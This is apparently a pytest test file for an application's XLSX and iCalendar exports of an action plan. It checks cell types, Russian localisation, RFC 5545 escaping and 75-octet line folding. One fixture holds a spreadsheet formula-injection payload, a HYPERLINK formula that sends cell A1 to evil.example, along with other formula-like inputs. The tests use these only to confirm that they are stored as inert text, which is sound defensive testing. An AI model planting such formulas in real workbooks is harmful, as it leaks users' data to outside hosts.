"""The action plan as a spreadsheet and as a calendar, built from hand-made rows as
reports.plan_selectors.initiatives_list gives them: every cell read back, formulas neutralized,
dates as dates; the calendar as RFC 5545 wants it — escaped text, lines of at most 75 octets
never cutting a character, CRLF — with only the initiatives still to do."""

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from reports.plan_exports import LINE_OCTETS, ics_fold, ics_text, plan_ics, plan_xlsx, target_text

PLAN_URL = "https://cx.example.com/assessments/5/action-plan/"
# 14:00 in Almaty is 09:00 UTC.
NOW = datetime.datetime(2026, 3, 1, 14, 0, tzinfo=datetime.timezone(datetime.timedelta(hours=5)))
CYRILLIC = "Единый профиль клиента в CRM для всех отделений, каналов и продуктов банка 🙂 до конца года"
HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Open")'


def _row(**changes) -> dict:
    row = {
        "id": 1,
        "title": {"en": "Initiative", "ru": "Инициатива"},
        "owner": None,
        "owner_name": "",
        "start_on": None,
        "due_on": None,
        "status": "planned",
        "percent_complete": 0,
        "budget": None,
        "currency": "KZT",
        "targets": {},
        "outcomes": [],
        "indicators": [],
        "health": "on_track",
        "updates": [],
    }
    return {**row, **changes}


def _update(note: str) -> dict:
    return {
        "created_at": NOW,
        "author": "Dana",
        "status": "in_progress",
        "percent_complete": 20,
        "note": note,
    }


@pytest.fixture
def rows() -> list[dict]:
    return [
        _row(
            id=7,
            title={"en": "Single customer view", "ru": "Единый профиль клиента"},
            owner={"id": 3, "name": "Dana Owner", "email": "dana@bank.example"},
            owner_name="ignored while there is a user",
            start_on=datetime.date(2026, 1, 15),
            due_on=datetime.date(2026, 3, 31),
            status="in_progress",
            percent_complete=40,
            budget=Decimal("1500000.50"),
            outcomes=["churn_rate", "clv", "nps"],
            targets={"churn_rate": {"op": "<=", "value": 9.5}, "clv": {"op": ">=", "value": 250000.0}},
            indicators=["TEC-01", "ORG-06"],
            health="at_risk",
            updates=[_update(""), _update("Pilot live")],  # newest first
        ),
        _row(
            id=8,
            title={"en": HYPERLINK},
            owner_name="+7 700 000 00 00",
            updates=[_update("@SUM(A1)")],
        ),
        _row(
            id=9,
            title={"en": "Win-back routine"},
            due_on=datetime.date(2026, 2, 1),
            status="done",
            health="done",
        ),
        _row(
            id=10,
            title={"en": "Scorecards"},
            due_on=datetime.date(2026, 5, 1),
            status="dropped",
            health="dropped",
        ),
    ]


def _sheet(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def _xlsx(rows, language="en", currency="KZT") -> bytes:
    names = {"TEC-01": "Single customer view in the CRM"}
    return plan_xlsx(rows=rows, language=language, currency=currency, indicator_names=names)


# --- XLSX ------------------------------------------------------------------------------------------


def test_the_spreadsheet_has_one_row_per_initiative_with_readable_cells(rows):
    sheet = _sheet(_xlsx(rows))
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert sheet.title == "Action plan" and sheet.freeze_panes == "A2"
    assert values[0] == [
        "No.",
        "Initiative",
        "Status",
        "Health",
        "Owner",
        "Start date",
        "Due date",
        "Per cent complete",
        "Budget, KZT",
        "Outcome metrics and targets",
        "Indicators",
        "Latest note",
    ]
    assert values[1] == [
        1,
        "Single customer view",
        "In progress",
        "At risk",
        "Dana Owner",
        datetime.datetime(2026, 1, 15),
        datetime.datetime(2026, 3, 31),
        40,
        1500000.5,
        "Churn rate ≤ 9.5 %; Customer lifetime value ≥ 250,000 KZT; NPS (relationship)",
        "TEC-01 Single customer view in the CRM; ORG-06",
        "Pilot live",  # the newest update with a note
    ]
    assert [row[:4] for row in values[3:]] == [
        [3, "Win-back routine", "Done", "Done"],
        [4, "Scorecards", "Dropped", "Dropped"],
    ]
    assert len(values) == 1 + len(rows)
    # Dates are dates and the budget a number: the client sorts and sums them.
    assert sheet["F2"].is_date and sheet["G2"].is_date and sheet["I2"].data_type == "n"
    assert sheet["I2"].number_format == "#,##0.00"


def test_every_text_a_spreadsheet_would_run_is_inert(rows):
    sheet = _sheet(_xlsx(rows))
    assert sheet["B3"].value == "'" + HYPERLINK
    assert sheet["E3"].value == "'+7 700 000 00 00"
    assert sheet["L3"].value == "'@SUM(A1)"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    # Without a date or an amount the cell stays empty.
    assert (sheet["F3"].value, sheet["G3"].value, sheet["I3"].value) == (None, None, None)


def test_characters_a_workbook_cannot_hold_are_dropped_before_the_formula_check():
    sheet = _sheet(_xlsx([_row(title={"en": "\x01=1+1 bell\x07"})]))
    assert sheet["B2"].value == "'=1+1 bell"


def test_the_spreadsheet_speaks_the_language_asked_for(rows):
    sheet = _sheet(_xlsx(rows, language="ru", currency=""))
    assert sheet.title == "План действий"
    assert [sheet["B2"].value, sheet["C2"].value] == ["Единый профиль клиента", "В работе"]
    # A title not written in Russian shows in the language it has.
    assert sheet["B4"].value == "Win-back routine"
    assert sheet["J2"].value.startswith("Отток ≤ 9,5 %; ")
    # Without a currency the budget's header says none.
    assert sheet["I1"].value != "Budget, KZT" and "," not in sheet["I1"].value


def test_a_target_reads_as_people_say_it():
    assert (
        target_text(key="churn_rate", target={"op": "<=", "value": 9.5}, currency="KZT")
        == "Churn rate ≤ 9.5 %"
    )
    assert target_text(key="churn_rate", target={"op": "<=", "value": 9.0}, currency="") == "Churn rate ≤ 9 %"
    assert (
        target_text(key="nps", target={"op": ">=", "value": 40.0}, currency="") == "NPS (relationship) ≥ 40"
    )
    assert (
        target_text(key="clv", target={"op": ">=", "value": 1e6}, currency="")
        == "Customer lifetime value ≥ 1,000,000"
    )
    assert target_text(key="csi", target=None, currency="") == "CSI, %"


def test_an_empty_plan_is_its_header():
    sheet = _sheet(_xlsx([]))
    assert sheet.max_row == 1 and sheet["A1"].value == "No."


# --- iCalendar -------------------------------------------------------------------------------------


def _ics(rows, language="en") -> str:
    return plan_ics(
        rows=rows,
        assessment_title="Alpha audit 2025",
        language=language,
        now=NOW,
        host="cx.example.com",
        plan_url=PLAN_URL,
    )


def _physical_lines(text: str) -> list[str]:
    """The file's lines: every one ends in CRLF and none holds another line break."""
    assert text.endswith("\r\n")
    lines = text.split("\r\n")[:-1]
    assert not any("\r" in line or "\n" in line for line in lines)
    return lines


def _unfolded(text: str) -> list[str]:
    lines: list[str] = []
    for line in _physical_lines(text):
        if line.startswith(" "):
            lines[-1] += line[1:]
        else:
            lines.append(line)
    return lines


def _events(text: str) -> dict[str, dict[str, str]]:
    """UID → {property (with its parameters): value} of each VEVENT."""
    events, current = {}, None
    for line in _unfolded(text):
        if line == "BEGIN:VEVENT":
            current = {}
        elif line == "END:VEVENT":
            events[current["UID"]] = current
            current = None
        elif current is not None:
            name, _colon, value = line.partition(":")
            current[name] = value
    return events


def _unescaped(value: str) -> str:
    out, chars = [], iter(value)
    for char in chars:
        if char == "\\":
            following = next(chars)
            out.append("\n" if following in "nN" else following)
        else:
            out.append(char)
    return "".join(out)


def test_the_calendar_has_an_all_day_event_per_initiative_still_to_do(rows):
    text = _ics(rows)
    lines = _unfolded(text)
    assert lines[:6] == [
        "BEGIN:VCALENDAR",
        "VERSION:2.0",
        "PRODID:-//CX Maturity Platform//Action plan//EN",
        "CALSCALE:GREGORIAN",
        "METHOD:PUBLISH",
        "X-WR-CALNAME:Action plan — Alpha audit 2025",
    ]
    assert lines[-1] == "END:VCALENDAR"
    events = _events(text)
    # Done, dropped and undated initiatives have no event.
    assert list(events) == ["initiative-7@cx.example.com"]
    event = events["initiative-7@cx.example.com"]
    assert event["DTSTART;VALUE=DATE"] == "20260331"
    assert event["DTEND;VALUE=DATE"] == "20260401"  # all day: the end is the next day
    assert event["DTSTAMP"] == "20260301T090000Z"
    assert event["SUMMARY"] == "Single customer view"
    assert _unescaped(event["DESCRIPTION"]).split("\n") == [
        "Owner: Dana Owner",
        "Status: In progress",
        "Per cent complete: 40 %",
        f"{PLAN_URL}#initiative-7",
    ]
    assert event["URL"] == f"{PLAN_URL}#initiative-7"


def test_the_same_plan_gives_the_same_uids_and_an_empty_one_a_valid_calendar(rows):
    assert list(_events(_ics(rows))) == list(_events(_ics(list(reversed(rows)))))
    assert _unfolded(_ics([]))[-2:] == ["X-WR-CALNAME:Action plan — Alpha audit 2025", "END:VCALENDAR"]


def test_text_is_escaped_as_rfc_5545_says():
    assert ics_text("a;b,c\\d\ne\r\nf\rg\x00h\ti") == "a\\;b\\,c\\\\d\\ne\\nf\\ng" + "h\ti"
    title = "Call back; fast, now\\or never\nline two"
    row = _row(id=2, title={"en": title}, owner_name="Smith, J.", due_on=datetime.date(2026, 4, 1))
    event = _events(_ics([row]))["initiative-2@cx.example.com"]
    assert event["SUMMARY"] == "Call back\\; fast\\, now\\\\or never\\nline two"
    assert _unescaped(event["SUMMARY"]) == title
    assert event["DESCRIPTION"].startswith("Owner: Smith\\, J.\\nStatus: Planned\\n")


def test_long_lines_fold_at_75_octets_without_cutting_a_character(rows):
    row = _row(
        id=3, title={"en": "x", "ru": CYRILLIC * 3}, owner_name=CYRILLIC, due_on=datetime.date(2026, 6, 30)
    )
    text = _ics([*rows, row], language="ru")
    physical = _physical_lines(text)
    assert max(len(line.encode()) for line in physical) <= LINE_OCTETS
    assert any(len(line.encode()) >= LINE_OCTETS - 3 for line in physical)  # it did fold
    # Each line decodes on its own, as a calendar reads them.
    for raw in text.encode().split(b"\r\n"):
        raw.decode("utf-8", errors="strict")
    event = _events(text)["initiative-3@cx.example.com"]
    assert _unescaped(event["SUMMARY"]) == CYRILLIC * 3
    description = _unescaped(event["DESCRIPTION"])
    assert description.startswith(f"Ответственный: {CYRILLIC}\n") and "Запланирована" in description


def test_folding_cuts_exactly_at_the_limit():
    assert ics_fold("A" * LINE_OCTETS) == "A" * LINE_OCTETS
    assert ics_fold("A" * (LINE_OCTETS + 1)) == "A" * LINE_OCTETS + "\r\n A"
    # 37 two-octet letters fill 74 octets; the 38th would make 76.
    folded = ics_fold("Ж" * 38).split("\r\n")
    assert folded == ["Ж" * 37, " Ж"]
